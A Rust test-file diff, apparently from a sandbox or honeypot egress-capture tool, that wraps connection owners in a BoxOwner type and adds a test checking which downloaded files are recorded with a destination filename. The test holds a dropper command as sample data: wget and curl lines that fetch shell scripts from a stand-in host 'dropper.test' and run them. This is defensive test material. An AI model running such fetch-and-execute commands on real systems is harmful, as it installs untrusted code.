@@ -8,7 +8,8 @@ use std::sync::atomic::{AtomicUsize, Ordering};
 use std::time::Duration;
 
 use hermes_core::address_block::AddressBlock;
-use hermes_core::capture::{FileStore, sha256_hex};
+use hermes_core::boxnet::BoxOwner;
+use hermes_core::capture::{FetchHints, FileStore, sha256_hex};
 use hermes_core::config::{ByteSize, EgressConfig, Seconds};
 use hermes_core::events::{ConnectionContext, Event, EventId};
 use hermes_core::ids::SessionId;
@@ -137,7 +138,7 @@ pub(super) fn rig(allow: &[&str], ports: &[u16], tune: impl FnOnce(&mut EgressCo
     };
     let ctx = BoxContext {
         container_id: "c0ffee".to_owned(),
-        owner: Arc::new(move || Some(owner.clone())),
+        owner: Arc::new(move || Some(BoxOwner::from(owner.clone()))),
         events: bus,
     };
     Rig {
@@ -560,11 +561,11 @@ async fn the_hourly_budget_is_shared_by_every_session() {
     let other = Rig {
         ctx: BoxContext {
             owner: Arc::new(|| {
-                Some(ConnectionContext {
+                Some(BoxOwner::from(ConnectionContext {
                     session: SessionId::random(),
                     src: "203.0.113.50:50000".parse().expect("addr"),
                     dst: "192.0.2.10:22".parse().expect("addr"),
-                })
+                }))
             }),
             ..rig.ctx.clone()
         },
@@ -812,4 +813,47 @@ async fn a_box_looping_on_a_refused_address_gets_a_bounded_number_of_events() {
         super::budget::FAILURES_REPORTED as usize
     );
     assert_eq!(rig.fetcher.upstream_connects(), 0);
+}
+
+#[tokio::test]
+async fn a_download_a_command_asked_for_gets_the_destfile_that_command_saves_to() {
+    let body = b"#!/bin/sh\necho stage-one\n".to_vec();
+    let server = server("127.0.0.1:0", ok(&body)).await;
+    let port = server.address.port();
+    let base = rig(&["127.0.0.1/32"], &[port], |_| {});
+    let hints = FetchHints::default();
+    hints.note(&format!(
+        "cd /tmp; wget -q http://Dropper.Test:{port}/x.sh && sh x.sh; \
+         curl -s http://dropper.test:{port}/piped.sh | sh"
+    ));
+    let owner = BoxOwner {
+        context: (base.ctx.owner)().expect("an owner").context,
+        hints,
+    };
+    let rig = Rig {
+        ctx: BoxContext {
+            owner: Arc::new(move || Some(owner.clone())),
+            ..base.ctx.clone()
+        },
+        ..base
+    };
+    let host = format!("dropper.test:{port}");
+    for path in ["/x.sh", "/piped.sh", "/unasked.sh"] {
+        rig.fetch(server.address, &get(path, &host)).await;
+    }
+    let downloads = rig.events.of(EventId::FileDownload);
+    assert_eq!(downloads.len(), 3, "{:?}", rig.events.all());
+    let of = |path: &str| {
+        let url = format!("http://{host}{path}");
+        downloads
+            .iter()
+            .find(|event| text(event, "url") == url)
+            .unwrap_or_else(|| panic!("{url}: {downloads:?}"))
+            .clone()
+    };
+    assert_eq!(text(&of("/x.sh"), "destfile"), "x.sh");
+    assert!(of("/x.sh").get("shasum").is_some());
+    // curl to its stdout saves nothing; nothing asked for the third.
+    assert!(of("/piped.sh").get("destfile").is_none());
+    assert!(of("/unasked.sh").get("destfile").is_none());
 }
